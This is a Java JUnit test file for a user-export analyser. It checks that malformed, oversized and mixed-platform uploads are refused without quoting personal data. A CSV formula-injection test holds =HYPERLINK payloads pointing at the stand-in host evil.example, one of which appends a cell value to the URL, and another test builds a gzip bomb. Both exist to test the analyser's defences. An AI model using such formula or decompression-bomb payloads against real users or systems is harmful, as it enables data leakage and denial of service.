package io.ciamportal.exports;

import static io.ciamportal.exports.ExportSamples.AUTH0_CSV;
import static io.ciamportal.exports.ExportSamples.GENERIC_CSV;
import static io.ciamportal.exports.ExportSamples.analyse;
import static io.ciamportal.exports.ExportSamples.auth0Line;
import static io.ciamportal.exports.ExportSamples.auth0Ndjson;
import static io.ciamportal.exports.ExportSamples.concat;
import static io.ciamportal.exports.ExportSamples.gzip;
import static io.ciamportal.exports.ExportSamples.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.fail;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * Files the analyser must refuse, and how: always an {@link ExportFormatException} whose message names the file and,
 * where the reader knows it, the line or byte offset, and never a value from the file (it may be personal data). Also
 * the odd but valid inputs it must take without failing (values of unexpected JSON types, spreadsheet formulas).
 */
class BadInputTest {

    private static final ExportLimits DEFAULTS = ExportLimits.defaults();

    /** The analysis of these files fails with an ExportFormatException; returns it. */
    private static ExportFormatException refused(@Nullable Platform platform, ExportLimits limits, Object... files) {
        try {
            ExportAnalysis a = analyse(platform, limits, files);
            return fail("expected the analysis to be refused, but it counted " + a.users() + " users");
        } catch (ExportFormatException e) {
            return e;
        }
    }

    private static ExportFormatException refused(Object... files) {
        return refused(null, DEFAULTS, files);
    }

    /** The message quotes none of these values from the file. */
    private static void quotesNothingOf(ExportFormatException e, String... values) {
        for (String v : values) {
            assertThat(e.getMessage()).as("message must not quote the file").doesNotContain(v);
        }
        assertThat(e.getMessage()).doesNotContain("@example.");
    }

    @Nested
    class Gzip {

        @Test
        void truncatedGzipSaysItEndsEarlyAndWhere() {
            byte[] whole = gzip(utf8(auth0Ndjson(400)));
            byte[] half = Arrays.copyOf(whole, whole.length / 2);

            var e = refused("users.ndjson.gz", half);

            assertThat(e.getMessage()).startsWith("users.ndjson.gz: ").contains("the gzip data ends early")
                    .contains("after " + half.length + " compressed bytes");
            quotesNothingOf(e, "auth0|", "User ");
        }

        @Test
        void magicNumberThenGarbageIsCorrupt() {
            byte[] bytes = concat(new byte[] {0x1f, (byte) 0x8b}, utf8("this is not deflate data, only words"));

            var e = refused("users.ndjson.gz", bytes);

            assertThat(e.getMessage()).startsWith("users.ndjson.gz: ").contains("the gzip data is corrupt").contains("compressed bytes");
            quotesNothingOf(e, "deflate data");
        }

        @Test
        void validHeaderThenGarbageIsCorrupt() {
            byte[] header = Arrays.copyOf(gzip(utf8(auth0Ndjson(2))), 10);
            byte[] garbage = new byte[2000];
            Arrays.fill(garbage, (byte) 0xff);

            var e = refused("users.ndjson.gz", concat(header, garbage));

            assertThat(e.getMessage()).startsWith("users.ndjson.gz: ").contains("the gzip data is corrupt");
        }

        @Test
        void theMagicNumberAloneEndsEarly() {
            var e = refused("users.ndjson.gz", new byte[] {0x1f, (byte) 0x8b});

            assertThat(e.getMessage()).startsWith("users.ndjson.gz: ").contains("the gzip data ends early").contains("after 2 compressed bytes");
        }

        /**
         * 300 MB of one Auth0 line (with a long, well-packed value) repeated: one 4 MB block gzipped on the fly, and
         * that gzip member repeated (gzip readers take concatenated members as one stream), about 1 MB in all. Built
         * once: both limits are tried on the same bomb.
         */
        private static byte[] bomb;

        private static synchronized byte[] bomb() {
            if (bomb == null) {
                String line = auth0Line(7).replace("\"locale\":\"en-GB\"", "\"locale\":\"en-GB\",\"note\":\"" + "x".repeat(8_000) + "\"");
                byte[] block = utf8((line + "\n").repeat((4 << 20) / (line.length() + 1)));
                byte[] member = gzip(block);
                int members = (int) ((300L << 20) / block.length) + 1;
                bomb = new byte[member.length * members];
                for (int i = 0; i < members; i++) {
                    System.arraycopy(member, 0, bomb, i * member.length, member.length);
                }
            }
            return bomb;
        }

        @Test
        void aGzipBombBreaksTheExpansionRatio() {
            byte[] bomb = bomb();
            assertThat(bomb.length).as("the bomb unpacks to over 200 times its size").isLessThan((300 << 20) / 200);
            // lowered so the limit breaks as soon as it is checked (after 64 MiB unpacked), not after 200 MB
            var limits = new ExportLimits(DEFAULTS.maxBytes(), 100, DEFAULTS.maxRecordBytes(), DEFAULTS.maxNestingDepth(), DEFAULTS.maxFiles());

            var e = refused(null, limits, "users.ndjson.gz", bomb);

            assertThat(e.getMessage()).startsWith("users.ndjson.gz: ").contains("more than 100 times its size")
                    .contains("portal.exports.max-expansion-ratio");
            quotesNothingOf(e, "auth0|", "User 7");
        }

        @Test
        void aGzipBombBreaksTheSizeLimit() {
            var limits = new ExportLimits(16L << 20, 100_000, DEFAULTS.maxRecordBytes(), DEFAULTS.maxNestingDepth(), DEFAULTS.maxFiles());

            var e = refused(null, limits, "users.ndjson.gz", bomb());

            assertThat(e.getMessage()).startsWith("users.ndjson.gz: ").contains("larger than the limit of " + (16L << 20) + " bytes")
                    .contains("portal.exports.max-bytes");
        }
    }

    @Nested
    class Json {

        @Test
        void invalidJsonNamesItsLine() {
            String file = auth0Line(1) + "\n" + auth0Line(2) + "\n" + "{\"user_id\":\"auth0|broken\",\"email\":\"carol@example.com\",,}\n"
                    + auth0Line(4) + "\n";

            var e = refused("users.ndjson", file);

            assertThat(e.getMessage()).startsWith("users.ndjson: not valid JSON at line 3, column ");
            quotesNothingOf(e, "broken", "carol");
        }

        @Test
        void aTruncatedFileEndsInTheMiddleOfAValue() {
            String whole = auth0Ndjson(3);
            String cut = whole.substring(0, whole.length() - 40);

            var e = refused("users.ndjson", cut);

            assertThat(e.getMessage()).startsWith("users.ndjson: the JSON ends in the middle of a value").contains("at line 3");
        }

        @Test
        void deepNestingInsideOneUserIsRefused() {
            String deep = "[".repeat(5_000) + "]".repeat(5_000);
            String file = "{\"user_id\":\"auth0|deep\",\"email\":\"deep@example.com\",\"logins_count\":1,\"user_metadata\":{\"x\":" + deep + "}}\n";

            var e = refused("users.ndjson", file);

            int at = file.indexOf("[".repeat(64));
            assertThat(e.getMessage()).isEqualTo("users.ndjson: the JSON nests deeper than 64 levels (portal.exports.max-nesting-depth) at line 1, "
                    + "column " + (at + 64) + " (byte offset " + (at + 63) + ").");
            quotesNothingOf(e, "deep@");
        }

        @Test
        void aRecordOfTwentyMegabytesStopsAtTheRecordLimitBeforeItIsRead() {
            String head = auth0Line(1).substring(0, auth0Line(1).length() - 1) + ",\"blob\":[";
            var source = new Generated(head, "{\"k\":1},", "{\"k\":1}]}\n", 20L << 20);
            long allocatedBefore = allocatedBytes();

            var e = refused(null, DEFAULTS, "users.ndjson", source);

            assertThat(e.getMessage()).isEqualTo("users.ndjson: the user record at line 1, column 1 (byte offset 0) is longer than 4194304 "
                    + "bytes (portal.exports.max-record-bytes): is this a user export?");
            assertThat(source.served).as("stopped within a buffer of the limit, not at the end of the record")
                    .isLessThan(DEFAULTS.maxRecordBytes() + (512L << 10));
            assertThat(allocatedBytes() - allocatedBefore).as("bytes allocated while reading").isLessThan(400L << 20);
        }

        @Test
        void aStringOfTwentyMegabytesStopsAtTheRecordLimit() {
            String head = auth0Line(1).substring(0, auth0Line(1).length() - 1) + ",\"blob\":\"";
            var source = new Generated(head, "AAAAAAAA", "\"}\n", 20L << 20);

            var e = refused(null, DEFAULTS, "users.ndjson", source);

            assertThat(e.getMessage()).startsWith("users.ndjson: ").contains("longer than 4194304")
                    .contains("portal.exports.max-record-bytes");
            assertThat(source.served).isLessThan(DEFAULTS.maxRecordBytes() + (512L << 10));
        }

        @Test
        void invalidUtf8InJsonNamesTheLine() {
            byte[] bad = concat(utf8(auth0Line(1) + "\n{\"user_id\":\"auth0|x\",\"name\":\"M"), new byte[] {(byte) 0xfc});
            byte[] file = concat(bad, utf8("ller\"}\n"));

            var e = refused("users.ndjson", file);

            assertThat(e.getMessage()).startsWith("users.ndjson: ").contains("not UTF-8").contains("at line 2");
            quotesNothingOf(e, "ller", "auth0|x");
        }

        @Test
        void valuesOfUnexpectedTypesAreReadAsUnknownNotAsBrokenJson() {
            String odd = """
                    {"user_id":"auth0|odd1","email":"odd1@example.com","email_verified":[true],"blocked":{},"logins_count":2,\
                    "last_login":1.5e300,"multifactor":[{"x":1},5,"google-authenticator"],"identities":[7,{"provider":"auth0"}]}
                    {"user_id":"auth0|odd2","email":"odd2@example.com","logins_count":2,"last_login":"+999999999-12-31T23:59:59Z",\
                    "user_metadata":"{\\"a\\":1}","app_metadata":[1,2]}
                    {"user_id":"auth0|odd3","email":{"a":1},"logins_count":{"n":1},"last_login":[2026],"multifactor":{"a":1}}
                    """;

            ExportAnalysis a = analyse("users.ndjson", odd);

            assertThat(a.users()).isEqualTo(3);
            assertThat(a.mfa().factors()).containsEntry("totp", 1L);
            assertThat(a.emailVerified().observedUsers()).isZero();
            assertThat(a.duplicateEmails().withoutEmail()).isEqualTo(1);
            assertThat(a.lastSignIn().observedUsers()).isEqualTo(3);
            assertThat(a.lastSignIn().never()).isEqualTo(3);
            assertThat(a.customAttributes().keys()).containsExactly("user_metadata.a");
        }
    }

    @Nested
    class Csv {

        @Test
        void anUnterminatedQuoteNamesTheLineItOpenedOn() {
            String file = """
                    id,email,note
                    1,ann@example.com,fine
                    2,"bob@example.org","never closed
                    3,carol@example.com,fine
                    """;

            var e = refused("users.csv", file);

            assertThat(e.getMessage()).isEqualTo("users.csv: a quoted CSV field opened on line 3 is never closed (is the file truncated?).");
        }

        @Test
        void anUnterminatedQuoteOnTheSecondLineOfARowNamesThatLine() {
            String file = """
                    id,email,note
                    1,ann@example.com,"two
                    lines","and then
                    2,bob@example.org,fine
                    """;

            var e = refused("users.csv", file);

            assertThat(e.getMessage()).startsWith("users.csv: a quoted CSV field opened on line 3 is never closed");
        }

        @Test
        void aRowOverTheRecordLimitNamesTheLineItStartsOn() {
            var source = new Generated("id,email,note\n1,ann@example.com,fine\n2,bob@example.org,\"", "xxxxxxxx", "\"\n", 20L << 20);

            var e = refused("users.csv", source);

            assertThat(e.getMessage()).isEqualTo("users.csv: the row that starts on line 3 is longer than 4194304 bytes "
                    + "(portal.exports.max-record-bytes): a quoted field opened on line 3 is still open; is its closing quote missing?");
            assertThat(source.served).isLessThan(DEFAULTS.maxRecordBytes() + (512L << 10));
        }

        @Test
        void invalidUtf8NamesTheLine() {
            byte[] head = utf8("id,email,name\n1,ann@example.com,Ann\n2,bob@example.org,M");
            byte[] file = concat(concat(head, new byte[] {(byte) 0xfc}), utf8("ller\n3,carol@example.com,Carol\n"));

            var e = refused("users.csv", file);

            assertThat(e.getMessage()).startsWith("users.csv: line 3 is not UTF-8 text");
            quotesNothingOf(e, "ller", "Ann");
        }

        @Test
        void formulaCellsAreCountedAsTextAndNeverShownRaw() {
            String file = """
                    id,email,password,"=HYPERLINK(""http://evil.example/"",""open"")"
                    1,ann@example.com,"=HYPERLINK(""http://evil.example/?q=""&B2,""click"")",+1+1
                    2,bob@example.org,@SUM(A1),-2+3
                    3,carol@example.com,$2b$12$abcdefghijklmnopqrstuuABCDEFGHIJKLMNOPQRSTUVWXYZ01234,@SUM(A1)
                    """;

            ExportAnalysis a = analyse("users.csv", file);

            assertThat(a.users()).isEqualTo(3);
            assertThat(a.warnings()).anySatisfy(w -> {
                assertThat(w.code()).isEqualTo("formula-cells");
                assertThat(w.message()).contains("users.csv").contains("first on line 1");
            });
            assertThat(a.customAttributes().keys()).containsExactly("'=HYPERLINK(\"http://evil.example/\",\"open\")");
            for (String out : new String[] {AnalysisJson.write(a), AnalysisText.render(a)}) {
                for (String formula : new String[] {"=HYPERLINK", "@SUM(A1)", "+1+1", "-2+3"}) {
                    var raw = Pattern.compile("(?<!')" + Pattern.quote(formula)).matcher(out);
                    assertThat(raw.find()).as("raw %s in %s", formula, out).isFalse();
                }
                assertThat(out).doesNotContain("evil.example/?q");
            }
        }
    }

    @Nested
    class Files {

        @Test
        void anEmptyFileIsRefused() {
            assertThat(refused("users.json", "").getMessage()).isEqualTo("users.json: the file is empty.");
        }

        @Test
        void aFileOfBlankSpaceIsRefused() {
            assertThat(refused("users.json", " \n\t\r\n   \n").getMessage()).isEqualTo("users.json: the file is empty.");
        }

        @Test
        void aByteOrderMarkAloneIsEmpty() {
            assertThat(refused("users.csv", new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}).getMessage())
                    .isEqualTo("users.csv: the file is empty.");
        }

        @Test
        void aFileOfAnotherPlatformThanTheChosenOne() {
            var e = refused(Platform.FIREBASE, DEFAULTS, "users.ndjson", auth0Ndjson(3));

            assertThat(e.getMessage()).isEqualTo("users.ndjson looks like Auth0 user export job (JSON), not Firebase Authentication as "
                    + "chosen: choose the right platform, or let the portal detect it.");
        }

        @Test
        void twoPlatformsInOneAnalysisAreMixed() {
            String firebase = """
                    {"users":[{"localId":"aB3dE5fG7hI9","email":"ann@example.com","emailVerified":true,"passwordHash":"c2NyeXB0","salt":"c2FsdA==","createdAt":"1700000000000"}]}
                    """;

            var e = refused("users.ndjson", auth0Ndjson(2), "firebase-users.json", firebase);

            assertThat(e.getMessage()).startsWith("firebase-users.json ").contains("Auth0").contains("users.ndjson").contains("mixed platforms");
            quotesNothingOf(e, "aB3dE5");
        }

        @Test
        void anInHouseTableAfterAnAuth0ExportIsMixed() {
            var e = refused("users.ndjson", auth0Ndjson(2), "django.csv", GENERIC_CSV);

            assertThat(e.getMessage()).startsWith("django.csv ").contains("Auth0").contains("users.ndjson").contains("mixed platforms");
        }

        @Test
        void anAuth0ExportAfterAnInHouseTableIsMixed() {
            var e = refused("django.csv", GENERIC_CSV, "users.csv", AUTH0_CSV);

            assertThat(e.getMessage()).startsWith("users.csv looks like Auth0 user export job (CSV), not In-house database")
                    .contains("detected in django.csv").contains("mixed platforms");
        }

        @Test
        void theAuth0ExportJobAndItsPasswordHashesAreOneExport() {
            ExportAnalysis a = analyse("users.ndjson", auth0Ndjson(3), "hashes.ndjson", ExportSamples.AUTH0_PASSWORD_HASHES);

            assertThat(a.users()).isEqualTo(3);
            assertThat(a.passwords().withPassword()).isEqualTo(2);
        }

        @Test
        void inHouseJsonIsReadOnePerLineAsAnArrayOrUnderAWrapper() {
            String lines = "{\"id\":1,\"email\":\"ann@example.com\"}\n{\"id\":2,\"email\":\"bob@example.org\"}\n";
            String wrapped = "{\"users\":[{\"id\":1,\"email\":\"ann@example.com\"},{\"id\":2,\"email\":\"bob@example.org\"}],\"next\":null}";

            assertThat(analyse("users.ndjson", lines).users()).isEqualTo(2);
            assertThat(analyse("users.json", ExportSamples.GENERIC_JSON).users()).isEqualTo(2);
            assertThat(analyse("users.json", wrapped).users()).isEqualTo(2);
        }

        @Test
        void anInHouseTableWithoutAnyUsableColumnNamesTheFile() {
            var e = refused(Platform.GENERIC, DEFAULTS, "people.csv", "a,b,c\n1,2,3\n");

            assertThat(e.getMessage()).startsWith("people.csv: ").contains("no column");
        }

        @Test
        void afterAFailedFileTheAnalysisIsVoid() {
            var analyser = new ExportAnalyser(ExportSamples.options(null), DEFAULTS);
            assertThatThrownBy(() -> analyser.add("users.ndjson", new ByteArrayInputStream(utf8(auth0Line(1) + "\n{,}\n"))))
                    .isInstanceOf(ExportFormatException.class);

            assertThatThrownBy(() -> analyser.add("more.csv", new ByteArrayInputStream(utf8(GENERIC_CSV))))
                    .isInstanceOf(IllegalStateException.class).hasMessageContaining("users.ndjson");
            assertThatThrownBy(analyser::finish).isInstanceOf(IllegalStateException.class);
        }
    }

    @Nested
    class UploadedAnalysis {

        private static String valid() {
            return AnalysisJson.write(analyse("users.ndjson", auth0Ndjson(2)));
        }

        private static ExportFormatException unreadable(String document) {
            try {
                AnalysisJson.read(new ByteArrayInputStream(utf8(document)));
                return fail("expected the document to be refused");
            } catch (ExportFormatException e) {
                return e;
            }
        }

        @Test
        void aValidDocumentReadsBack() {
            String document = valid();

            ExportAnalysis a = AnalysisJson.read(new ByteArrayInputStream(utf8(document)));

            assertThat(a.users()).isEqualTo(2);
            assertThat(AnalysisJson.write(a)).isEqualTo(document);
        }

        @Test
        void aDocumentWithoutItsPlatformIsIncomplete() {
            assertThat(unreadable(valid().replaceFirst("\"platform\":\"auth0\",", "")).getMessage()).contains("incomplete");
        }

        /** The valid document with one change made to its tree. */
        private static String changed(java.util.function.Consumer<ObjectNode> change) {
            var mapper = JsonMapper.builder().build();
            var tree = (ObjectNode) mapper.readTree(valid());
            change.accept(tree);
            return mapper.writeValueAsString(tree);
        }

        @Test
        void aDocumentWithHolesInsideIsIncomplete() {
            assertThat(unreadable(changed(t -> ((ObjectNode) t.get("passwords")).remove("schemes"))).getMessage()).contains("incomplete");
            assertThat(unreadable(changed(t -> ((ObjectNode) t.get("passwords")).putObject("parameters").putObject("bcrypt")
                    .putNull("cost=10"))).getMessage()).contains("incomplete");
            assertThat(unreadable(changed(t -> t.withArray("files").addNull())).getMessage()).contains("incomplete");
            assertThat(unreadable(changed(t -> t.withObject("lastSignIn").withArray("histogram").addNull())).getMessage())
                    .contains("incomplete");
            assertThat(unreadable(changed(t -> t.withObject("customAttributes").withArray("keys").addNull())).getMessage())
                    .contains("incomplete");
            assertThat(unreadable(changed(t -> t.withArray("warnings").addObject().put("code", "x"))).getMessage()).contains("incomplete");
            assertThat(unreadable(changed(t -> t.withObject("providers").putObject("counts").putNull("google-oauth2"))).getMessage())
                    .contains("incomplete");
            assertThat(unreadable(changed(t -> t.remove("mfa"))).getMessage()).contains("incomplete");
            assertThat(unreadable(changed(t -> t.withObject("blocked").remove("status"))).getMessage()).contains("incomplete");
        }

        @Test
        void anUnknownStatusIsNotValid() {
            assertThat(unreadable(valid().replaceFirst("\"status\":\"[a-z-]+\"", "\"status\":\"bogus\"")).getMessage())
                    .startsWith("Not a valid export analysis document");
        }

        @Test
        void aDocumentOverEightMegabytesIsRefused() {
            var padding = new StringBuilder();
            for (int i = 0; i < 9_000; i++) {
                padding.append("\"p").append(i).append("\":\"").append("x".repeat(1_000)).append("\",");
            }
            String document = "{" + padding + valid().substring(1);

            assertThat(unreadable(document).getMessage()).startsWith("Not a valid export analysis document");
        }

        @Test
        void aRawExportIsNotAnAnalysis() {
            assertThat(unreadable(auth0Ndjson(2)).getMessage()).startsWith("Not a valid export analysis document");
        }
    }

    private static long allocatedBytes() {
        return ((com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean()).getCurrentThreadAllocatedBytes();
    }

    /** A file made on the fly: a head, a middle repeated up to the size, a tail; counts the bytes it served. */
    static final class Generated extends InputStream {
        private final byte[] head;
        private final byte[] middle;
        private final byte[] tail;
        private final long size;
        long served;

        Generated(String head, String middle, String tail, long size) {
            this.head = head.getBytes(StandardCharsets.UTF_8);
            this.middle = middle.getBytes(StandardCharsets.UTF_8);
            this.tail = tail.getBytes(StandardCharsets.UTF_8);
            this.size = size;
        }

        @Override
        public int read() {
            byte[] one = new byte[1];
            return read(one, 0, 1) < 0 ? -1 : one[0] & 0xff;
        }

        @Override
        public int read(byte[] b, int off, int len) {
            long middleEnd = size - tail.length;
            int n = 0;
            while (n < len) {
                long at = served;
                byte next;
                if (at < head.length) {
                    next = head[(int) at];
                } else if (at < middleEnd) {
                    next = middle[(int) ((at - head.length) % middle.length)];
                } else if (at < size) {
                    next = tail[(int) (at - middleEnd)];
                } else {
                    break;
                }
                b[off + n++] = next;
                served++;
            }
            return n == 0 && len > 0 ? -1 : n;
        }
    }
}
